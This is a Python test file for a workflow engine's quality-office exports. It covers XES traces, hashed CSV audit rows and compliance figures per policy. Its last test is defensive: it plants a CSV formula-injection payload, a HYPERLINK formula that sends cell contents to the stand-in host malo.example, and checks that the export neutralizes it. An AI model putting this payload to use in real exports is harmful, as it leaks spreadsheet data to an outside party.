"""The quality office's view: trail exports (CSV, XES) and compliance per policy."""

from __future__ import annotations

import csv
import io
import shutil
from html import escape
from pathlib import Path

import pytest
from lxml import etree

from engine import Engine, ManualClock
from engine.analysis.scenarios import load_scenarios, run_scenario
from engine.audit.indicators import compliance
from engine.audit.quality import export_csv, export_xes
from tests.conftest import BPMN, PROCESSES
from tests.helpers import complete
from tests.integration.test_script_incidents import SCRIPTS


def _run(engine: Engine, clock: ManualClock, procedure: str) -> list[str]:
    keys = []
    for scenario in load_scenarios([PROCESSES / "scenarios" / f"{procedure}.yaml"]):
        result = run_scenario(engine, clock, scenario)
        assert result.passed, result.failures
        assert result.business_key is not None
        keys.append(result.business_key)
    return keys


def test_the_xes_log_has_one_trace_per_case_with_named_timestamped_activities(
    engine: Engine, clock: ManualClock
) -> None:
    engine.deploy([BPMN], "analista")
    keys = _run(engine, clock, "P001")
    with engine.sessions() as session:
        log = etree.fromstring(export_xes(session, "P001"))
    traces = log.findall("trace")
    assert [t.find("string[@key='concept:name']").get("value") for t in traces] == keys
    first = [e.find("string[@key='concept:name']").get("value") for e in traces[0].findall("event")]
    assert first[:3] == ["Invitación recibida", "Proponer delegado", "Aprobar delegación"]
    assert "Diligenciar ficha técnica de delegación" in first
    assert not any(name.startswith("gw_") for name in first)  # gateways are not activities
    for event in traces[0].findall("event"):
        assert event.find("date[@key='time:timestamp']").get("value").endswith("+00:00")
        assert event.find("string[@key='org:resource']").get("value")


def test_the_csv_has_every_audit_event_with_its_hash(engine: Engine, clock: ManualClock) -> None:
    engine.deploy([BPMN], "analista")
    keys = _run(engine, clock, "P001")
    with engine.sessions() as session:
        rows = list(csv.DictReader(io.StringIO(export_csv(session))))
    assert {row["case"] for row in rows} == set(keys)
    assert all(len(row["hash"]) == 64 for row in rows)
    assert [row["seq"] for row in rows if row["case"] == keys[0]][:3] == ["1", "2", "3"]


def test_every_scenario_lands_in_the_policy_figures(engine: Engine, clock: ManualClock) -> None:
    engine.deploy([BPMN], "analista")
    for procedure in ("P001", "P003", "P004", "P005"):
        _run(engine, clock, procedure)
    with engine.sessions() as session:
        figures = {f.policy: f for f in compliance(session, clock.now())}
    assert figures["3"].measured >= 4 and figures["3"].non_compliant >= 1  # one ficha came late
    assert figures["2"].compliant >= 1 and figures["2"].percent == 100
    assert figures["2"].bucket("devoluciones").items  # the scenarios return acts for adjustment
    assert figures["4"].compliant >= 1 and figures["4"].non_compliant == 0
    assert figures["1"].compliant >= 1


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralized(
    engine: Engine, tmp_path: Path, lead: str
) -> None:
    """An element name from an analyst's diagram reaches the quality office's spreadsheet: a
    leading =, +, -, @, tab or CR is prefixed with ' so it stays text."""
    name = f'{lead}HYPERLINK("https://malo.example/?d="&A1,"Ver")'
    attribute = escape(name, quote=True).replace("\t", "&#9;").replace("\r", "&#13;")
    bpmn = tmp_path / "bpmn" / "SCRIPTS.bpmn"
    bpmn.parent.mkdir()
    bpmn.write_text(
        SCRIPTS.read_text().replace('name="Repartir el presupuesto"', f'name="{attribute}"')
    )
    shutil.copytree(SCRIPTS.parent.parent / "forms", tmp_path / "forms")
    engine.deploy([bpmn], "analista")
    key = engine.start("SCRIPTS", "despacho", {})
    complete(engine, key, "repartir", "despacho", {"partes": 4})
    with engine.sessions() as session:
        rows = list(csv.DictReader(io.StringIO(export_csv(session, "SCRIPTS"))))
    names = {row["element_name"] for row in rows if row["element"] == "repartir"}
    assert names == {"'" + name}
    assert {row["case"] for row in rows} == {key}  # plain cells are left as they are
